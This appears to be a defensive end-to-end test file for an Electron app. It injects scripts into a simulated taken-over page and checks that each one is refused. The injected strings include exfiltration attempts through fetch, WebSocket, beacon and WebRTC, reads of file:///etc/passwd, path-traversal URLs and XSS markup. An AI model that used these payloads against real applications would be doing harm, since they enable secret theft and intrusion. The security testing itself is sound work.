import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { describe, expect, it, onTestFinished } from 'vitest';
import { startForeignServer } from '../../support/foreign-server.ts';
import { launchApp } from '../../support/launch-app.ts';
import { startRecordingServer } from '../../support/recording-server.ts';
import {
  ana,
  answerQuestions,
  createAccount,
  expectProfile,
  pageHeading,
  questionsOf,
  seen,
  enterServer,
} from '../../support/screens.ts';
import { makeTemporaryFolder } from '../../support/temporary-folder.ts';

// Scripts are put into the page through the DevTools protocol, as if somebody had found a hole in it.

/** Runs each attempt in the page, and answers by its name what it came to. An attempt that has no end is `nothing`. */
function attempt(page: Page, attempts: Record<string, string>): Promise<Record<string, string>> {
  return page.evaluate(async (all) => {
    const results = Object.entries(all).map(async ([name, source]) => {
      const late = new Promise<string>((resolve) => setTimeout(() => resolve('nothing'), 1500));
      // DevTools may evaluate texts, and the page may not.
      const made = Promise.resolve().then(() => (0, eval)(`(async () => { ${source} })()`) as Promise<unknown>);
      const done = made.then(String, (error: unknown) => `refused: ${error instanceof Error ? error.name : 'event'}`);
      return [name, await Promise.race([done, late])];
    });
    return Object.fromEntries(await Promise.all(results)) as Record<string, string>;
  }, attempts);
}

/** These are ways to the network, for one server. Each ends with what it got. */
const waysTo = ({ port, udp, secret }: { port: number; udp: number; secret: string }): Record<string, string> => {
  const url = `http://127.0.0.1:${port}/${secret}`;
  const element = (make: string): string =>
    `return new Promise((done, failed) => { ${make}; it.onload = () => done('loaded'); it.onerror = failed; document.body.append(it); })`;
  return {
    fetch: `return (await fetch('${url}', { mode: 'no-cors' })).type`,
    xhr: `return new Promise((done, failed) => { const it = new XMLHttpRequest(); it.onload = () => done('loaded'); it.onerror = failed; it.open('GET', '${url}'); it.send(); })`,
    socket: `return new Promise((done, failed) => { const it = new WebSocket('ws://127.0.0.1:${port}/${secret}'); it.onopen = () => done('open'); it.onerror = failed; })`,
    events: `return new Promise((done, failed) => { const it = new EventSource('${url}'); it.onopen = () => done('open'); it.onerror = failed; })`,
    image: element(`const it = new Image(); it.src = '${url}'`),
    frame: element(`const it = document.createElement('iframe'); it.src = '${url}'`),
    sheet: element(`const it = document.createElement('link'); it.rel = 'stylesheet'; it.href = '${url}'`),
    preconnect: `for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload']) { const it = document.createElement('link'); it.rel = rel; it.as = 'fetch'; it.href = '${url}'; document.head.append(it); }`,
    beacon: `navigator.sendBeacon('${url}', 'x')`,
    form: `const it = document.createElement('form'); it.action = '${url}'; it.method = 'post'; document.body.append(it); it.submit()`,
    download: `const it = document.createElement('a'); it.href = '${url}'; it.download = 'x'; document.body.append(it); it.click()`,
    worker: `new Worker('${url}')`,
    module: `await import('${url}')`,
    transport: `await new WebTransport('https://127.0.0.1:${port}/${secret}').ready`,
    webrtc: `const it = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }, { urls: ['turn:127.0.0.1:${port}?transport=tcp', 'turn:127.0.0.1:${udp}'], username: '${secret}', credential: 'x' }] }); it.createDataChannel('x'); await it.setLocalDescription(); await new Promise((done) => (it.onicegatheringstatechange = () => it.iceGatheringState === 'complete' && done())); return 'gathered'`,
  };
};

async function startListener() {
  const requests: string[] = [];
  const server = await startRecordingServer(({ requestLine }) => {
    requests.push(requestLine);
    return 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\nAccess-Control-Allow-Origin: *\r\n\r\n';
  });
  onTestFinished(() => server.close());
  const udp = createSocket('udp4');
  let packets = 0;
  udp.on('message', () => (packets += 1));
  udp.bind(0, '127.0.0.1');
  await once(udp, 'listening');
  onTestFinished(() => void udp.close());
  return { requests, server, port: server.port, udp: udp.address().port, packets: () => packets };
}

/** A script on the page may try these ways to get at files, windows, devices and Node. */
const waysOut = {
  fetchFile: `return (await fetch('file:///etc/passwd')).text()`,
  fileImage: `return new Promise((done, failed) => { const it = new Image(); it.onload = () => done('loaded'); it.onerror = failed; it.src = 'file:///etc/passwd'; })`,
  importFile: `return Object.keys(await import('file:///etc/passwd')).join()`,
  above: `const { status } = await fetch('app://llavero/../../package.json'); return status`,
  aboveEncoded: `const { status } = await fetch('app://llavero/%2e%2e%2f%2e%2e%2fpackage.json'); return status`,
  otherHost: `const { status } = await fetch('app://elsewhere/index.html'); return status`,
  open: `return window.open('https://example.test/') === null ? 'refused' : 'opened'`,
  openBlank: `return window.open() === null ? 'refused' : 'opened'`,
  openOwn: `return window.open('app://llavero/') === null ? 'refused' : 'opened'`,
  webview: `const it = document.createElement('webview'); it.src = 'app://llavero/'; document.body.append(it); return 'getURL' in it ? 'made' : 'refused'`,
  camera: `await navigator.mediaDevices.getUserMedia({ video: true }); return 'allowed'`,
  place: `return new Promise((done, failed) => navigator.geolocation.getCurrentPosition(() => done('allowed'), failed))`,
  notify: `return Notification.requestPermission()`,
  clipboard: `return navigator.clipboard.readText()`,
  usb: `await navigator.usb.requestDevice({ filters: [] }); return 'allowed'`,
  screen: `await navigator.mediaDevices.getDisplayMedia(); return 'allowed'`,
  pickFile: `await window.showOpenFilePicker(); return 'allowed'`,
  serviceWorker: `await navigator.serviceWorker.register('/index.js'); return 'registered'`,
  require: `return typeof require + typeof process + typeof module`,
};

/** Collects all that main answers, all that the page keeps, and all that hangs off its objects. */
function everythingOn(page: Page) {
  return page.evaluate(async () => {
    const filter = { search: '', outcome: 'all', checks: 'with', pinnedOnly: false } as const;
    const state = await window.api.app.state();
    const list = await window.api.calls.list({ filter, offset: 0 });
    const calls = list.ok ? list.value.calls : [];
    const recorded = await Promise.all(calls.map((each) => window.api.calls.get({ id: each.id })));
    const copied = await Promise.all(
      calls.map((each) => window.api.calls.copy({ id: each.id, form: 'fetch', secrets: 'variables' })),
    );
    const shown = state.ok && !state.value.locked && state.value.session;
    const checked = await window.api.sessions.check({
      id: shown && shown.step === 'signed-in' ? shown.sessionId : '',
    });
    const seenObjects = new Set<unknown>();
    const texts: string[] = [];
    const queue: unknown[] = [window];
    for (let value = queue.pop(); queue.length > 0 || value !== undefined; value = queue.pop()) {
      if (typeof value === 'string') texts.push(value);
      if (value === null || (typeof value !== 'object' && typeof value !== 'function')) continue;
      if (seenObjects.has(value) || seenObjects.size > 200_000) continue;
      seenObjects.add(value);
      for (const key of Reflect.ownKeys(value)) {
        try {
          queue.push(Reflect.get(value, key) as unknown);
        } catch {
          // Some properties may not be read.
        }
      }
    }
    return {
      answers: JSON.stringify([state, list, recorded, copied, checked]),
      kept: JSON.stringify([
        Object.entries(localStorage),
        Object.entries(sessionStorage),
        document.cookie,
        location.href,
      ]),
      databases: (await indexedDB.databases().catch(() => [])).length,
      page: document.documentElement.outerHTML,
      texts: texts.join('\n'),
      objects: seenObjects.size,
    };
  });
}

describe('a page that was taken over', () => {
  it('reaches no network, with its policy and without', async () => {
    const listener = await startListener();
    const { page, userDataDir, quit } = await launchApp();
    await seen(pageHeading(page, 'Log in'));
    const devTools = await page.context().newCDPSession(page);
    for (const bypass of [false, true]) {
      await devTools.send('Page.setBypassCSP', { enabled: bypass });
      await page.reload();
      await seen(pageHeading(page, 'Log in'));
      const results = await attempt(page, waysTo({ ...listener, secret: 'secret' }));
      // Each was refused at once or without an end. A frame then holds the page of the refusal.
      const reached = Object.entries(results).filter(([, result]) => /^(open|loaded|opaque|basic|cors)$/.test(result));
      expect(reached).toEqual([['frame', 'loaded']]);
      expect([listener.requests, listener.server.receivedBytes(), listener.packets()]).toEqual([[], 0, 0]);
    }
    expect(page.url()).toBe('app://llavero/');
    await quit();
    const log = await readFile(path.join(userDataDir, 'logs', 'main.log'), 'utf8');
    expect(log).toContain(`a page asked for http://127.0.0.1:${listener.port} and was refused`);
    expect(log).toContain(`a page asked for ws://127.0.0.1:${listener.port} and was refused`);
    expect(log).not.toContain('secret');
  });

  it('asks no name server, except by the name of a TURN server', async () => {
    const file = path.join(await makeTemporaryFolder(), 'net-log.json');
    const { page, quit } = await launchApp({ args: [`--log-net-log=${file}`, '--net-log-capture-mode=Everything'] });
    await seen(pageHeading(page, 'Log in'));
    const devTools = await page.context().newCDPSession(page);
    await devTools.send('Page.setBypassCSP', { enabled: true });
    await page.reload();
    await attempt(page, {
      hints: `for (const rel of ['dns-prefetch', 'preconnect']) { const it = document.createElement('link'); it.rel = rel; it.href = 'https://leak-hint.example.test/'; document.head.append(it); }`,
      fetch: `await fetch('https://leak-fetch.example.test/')`,
      webrtc: `const it = new RTCPeerConnection({ iceServers: [{ urls: 'stun:leak-stun.example.test' }, { urls: 'turn:leak-turn.example.test?transport=tcp', username: 'a', credential: 'b' }] }); it.createDataChannel('x'); await it.setLocalDescription(); await new Promise(() => {})`,
    });
    await quit();
    const { constants, events } = JSON.parse(await readFile(file, 'utf8')) as {
      constants: { logEventTypes: Record<string, number> };
      events: { type: number; params?: unknown }[];
    };
    const types = Object.fromEntries(Object.entries(constants.logEventTypes).map(([name, type]) => [type, name]));
    const resolved = events
      .filter(
        ({ type, params }) => /HOST_RESOLVER|DNS/.test(types[type] ?? '') && JSON.stringify(params)?.includes('leak'),
      )
      .map(({ params }) => JSON.stringify(params));
    // Chromium has no switch for that one (see "Known limits" in SECURITY.md); no server is reached even so.
    expect(resolved.filter((params) => !params.includes('leak-turn'))).toEqual([]);
  });

  it('finds no token and no file, opens no window, and stays where it is', async () => {
    const foreign = await startForeignServer();
    const { app, page } = await launchApp();
    await enterServer(page, foreign.baseUrl);
    await createAccount(page, ana);
    await expectProfile(page, ana);
    const [token] = foreign.issued;
    expect(token).toBeDefined();

    const everything = await everythingOn(page);
    // The search looked where things are.
    expect(everything.answers).toContain(ana.email);
    expect(everything.objects).toBeGreaterThan(1000);
    const clipboard = await app.evaluate(({ clipboard: board }) => board.readText());
    for (const secret of [token!, token!.split('|')[1]!, ana.password, '$2y$10$abcdefghijklmnopqrstuv'])
      expect([...Object.values(everything), clipboard].filter((text) => String(text).includes(secret))).toEqual([]);

    const before = await app.evaluate(({ BrowserWindow, webContents }) => [
      BrowserWindow.getAllWindows().length,
      webContents.getAllWebContents().length,
    ]);
    const file = 'file:///etc/passwd';
    const devTools = await page.context().newCDPSession(page);
    for (const bypass of [false, true]) {
      await devTools.send('Page.setBypassCSP', { enabled: bypass });
      await page.reload();
      await expectProfile(page, ana);
      const results = await attempt(page, waysOut);
      const { require, openOwn, open, openBlank, webview, notify, ...others } = results;
      expect(require).toBe('undefinedundefinedundefined');
      expect([open, openBlank, openOwn, webview, notify]).toEqual([
        ...Array.from({ length: 4 }, () => 'refused'),
        'denied',
      ]);
      const allowed = Object.entries(others).filter(([, result]) => !/^(refused: |404$|nothing$)/.test(result));
      expect(allowed).toEqual([]);
    }

    for (const target of [
      'https://example.test/',
      file,
      'data:text/html,elsewhere',
      'app://elsewhere/',
      'javascript:1',
    ]) {
      await attempt(page, {
        leave: `location.href = ${JSON.stringify(target)}; await new Promise((done) => setTimeout(done, 100))`,
      });
      await attempt(page, {
        link: `const it = document.createElement('a'); it.href = ${JSON.stringify(target)}; it.target = '_top'; document.body.append(it); it.click(); await new Promise((done) => setTimeout(done, 100))`,
      });
    }
    // Playwright still waits for the pages that never came, so it is not asked for what is shown.
    const shown = await page.evaluate(() => [location.href, document.querySelector('h1')?.textContent]);
    expect(shown).toEqual(['app://llavero/', ana.name]);
    const after = await app.evaluate(({ BrowserWindow, webContents }) => [
      BrowserWindow.getAllWindows().length,
      webContents.getAllWebContents().length,
    ]);
    expect(after).toEqual(before);
  });

  // What else such a page may call, in any order: unit/taken-over-page.test.ts. Presses reach main only here.
  it('makes no presses that count, so that who refused its address is asked again only after one of their own', async () => {
    const evil = await startListener();
    const { app, page } = await launchApp();
    await seen(pageHeading(page, 'Log in'));
    await answerQuestions(app, false);
    const typed = 'what-was-typed';
    const tryAll = () =>
      page.evaluate(async (address) => {
        const field = document.querySelector('input')!;
        field.focus();
        for (const type of ['keydown', 'keypress', 'keyup'])
          field.dispatchEvent(new KeyboardEvent(type, { key: 'a', bubbles: true }));
        for (const type of ['pointerdown', 'mousedown', 'click'])
          field.dispatchEvent(new MouseEvent(type, { bubbles: true }));
        return [
          await window.api.servers.test({ address }),
          await window.api.servers.chooseAddress({ address }),
          await window.api.servers.test({ address, id: 'built-in' }),
        ].map((result) => result.ok && (result.value === null || result.value.reached));
      }, `http://127.0.0.1:${evil.port}/${typed}`);
    const messages = async () => (await questionsOf(app)).map(({ message }) => message);
    const question = `Connect to http://127.0.0.1:${evil.port}?`;
    expect(await tryAll()).toEqual([false, false, false]);
    expect(await tryAll()).toEqual([false, false, false]);
    expect(await messages()).toEqual([question]);
    await page.keyboard.press('Shift');
    expect(await tryAll()).toEqual([false, false, false]);
    expect(await messages()).toEqual([question, question]);
    expect(evil.requests).toEqual([]);
  });

  it('runs no markup, no text as script, and no style but that of its load', async () => {
    const { page } = await launchApp();
    await seen(pageHeading(page, 'Log in'));
    const markup = '<img src=x onerror="window.ran = true">';
    const results = await attempt(page, {
      innerHTML: `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(markup)})`,
      property: `document.createElement('div').innerHTML = ${JSON.stringify(markup)}`,
      parser: `new DOMParser().parseFromString(${JSON.stringify(markup)}, 'text/html')`,
      write: `document.write(${JSON.stringify(markup)})`,
      scriptText: `const it = document.createElement('script'); it.textContent = 'window.ran = true'; document.head.append(it)`,
      scriptUrl: `const it = document.createElement('script'); it.src = 'app://llavero/x.js'; document.head.append(it)`,
      handler: `const it = document.createElement('div'); it.setAttribute('onclick', 'window.ran = true'); it.click()`,
      timer: `setTimeout('window.ran = true')`,
      policy: `trustedTypes.createPolicy('mine', { createHTML: (text) => text })`,
      again: `trustedTypes.createPolicy('default', { createHTML: (text) => text })`,
      worker: `new Worker('app://llavero/index.js')`,
      frame: `document.createElement('iframe').srcdoc = ${JSON.stringify(markup)}`,
    });
    const { handler, ...refused } = results;
    expect(Object.entries(refused).filter(([, result]) => !result.startsWith('refused: '))).toEqual([]);
    expect(handler).toMatch(/undefined|refused/);
    // Plain text may be set as HTML, since the library of the screens has no styles otherwise.
    expect(
      await attempt(page, {
        text: `const it = document.createElement('p'); it.innerHTML = 'plain &amp; text'; return it.textContent`,
      }),
    ).toEqual({ text: 'plain & text' });

    const styled = `const it = document.createElement('style'); it.textContent = 'body { letter-spacing: 7px }'; document.head.append(it); return getComputedStyle(document.body).letterSpacing`;
    const inline = `document.body.insertAdjacentElement('beforeend', document.createElement('p')).setAttribute('style', 'color: red'); return getComputedStyle(document.body.lastElementChild).color`;
    expect((await attempt(page, { styled }))['styled']).not.toBe('7px');
    expect((await attempt(page, { inline }))['inline']).not.toBe('rgb(255, 0, 0)');
    expect(await page.evaluate(() => 'ran' in window)).toBe(false);

    const served: string[] = [];
    const ofScripts = new Set<string>();
    page.on('response', (response) => {
      const policy = response.headers()['content-security-policy'] ?? '';
      if (response.request().isNavigationRequest()) served.push(policy);
      else if (response.url().endsWith('.js')) ofScripts.add(policy);
    });
    await page.reload();
    await page.reload();
    // A worker would have the policy of its script.
    expect([...ofScripts]).toEqual(["default-src 'none'"]);
    const [first = '', second = ''] = served;
    const nonceOf = (policy: string): string | undefined => /'nonce-([\w+/=]{22,})'/.exec(policy)?.[1];
    expect(nonceOf(first)).toBeDefined();
    expect(nonceOf(second)).toBeDefined();
    expect(nonceOf(first)).not.toBe(nonceOf(second));
    expect(first).toContain("default-src 'none'");
    expect(first).not.toMatch(/unsafe-|\*|https?:/);
  });
});
